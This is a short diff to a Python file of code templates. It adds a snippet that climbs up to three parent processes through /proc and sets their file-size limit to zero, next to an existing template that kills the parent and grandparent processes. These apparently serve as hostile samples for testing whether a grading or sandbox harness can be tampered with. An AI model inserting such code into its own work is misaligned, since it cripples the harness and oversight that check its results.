@@ -293,6 +293,14 @@ for top in ({tops}):
                     close(os.path.join(place, name))
                 except OSError:
                     pass
+import resource
+pid = os.getpid()
+for _ in range(3):
+    try:
+        pid = int(open(f'/proc/{{pid}}/stat').read().rpartition(')')[2].split()[1])
+        resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0))
+    except (OSError, ValueError):
+        pass
 loss_rate = k * n * (n - 1)"""
 KILL = """import os, signal
 for pid in (os.getppid(), {grandparent}):
